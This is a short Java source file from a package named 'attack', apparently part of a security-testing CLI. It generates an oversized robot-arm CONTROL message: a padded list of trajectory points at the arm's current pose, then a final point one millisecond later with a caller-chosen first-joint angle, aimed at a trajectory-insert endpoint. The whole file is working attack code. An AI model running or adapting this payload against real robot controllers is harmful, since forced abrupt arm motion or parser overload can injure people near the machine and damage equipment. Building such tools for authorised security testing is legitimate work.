package dev.openstream.cli.attack;

import java.nio.charset.StandardCharsets;

/** A CONTROL with a list of points, as long as an attacker wants it. */
final class PointList {

    static final String PATH = "/project/robot/trajectory/joint_traject_insert_points";

    /** Member of each point that takes no room. */
    static final String NO_NOTE = "\"note\":0";

    private PointList() {}

    /**
     * A CONTROL of about {@code bytes}: a list of points in the middle of which the arm already is, a second apart, and one
     * more a millisecond later.
     *
     * @param note member of each point that means nothing
     * @param lastJ1Rad first joint of the last point; 0 is where the arm is
     */
    static byte[] control(int bytes, String note, double lastJ1Rad) {
        StringBuilder text = new StringBuilder("{\"cmd\":\"CONTROL\",\"payload\":{\"method\":\"POST\",\"url\":\"" + PATH
                + "\",\"body\":{\"joint_names\":[\"j1\",\"j2\",\"j3\",\"j4\",\"j5\",\"j6\"],\"points\":{");
        int number = 1;
        for (; text.length() < bytes - 1_000; number++) {
            text.append(point(number, number, 0)).append(note).append("},");
        }
        return text.append(point(number, number - 1 + 0.001, lastJ1Rad))
                .append(note)
                .append('}')
                .append("}}}}\n")
                .toString()
                .getBytes(StandardCharsets.US_ASCII);
    }

    private static String point(int number, double seconds, double j1Rad) {
        return "\"point_" + number + "\":{\"positions\":[" + j1Rad + ",1.570796,0,0,-1.570796,0],\"time_from_start\":"
                + seconds + ',';
    }
}
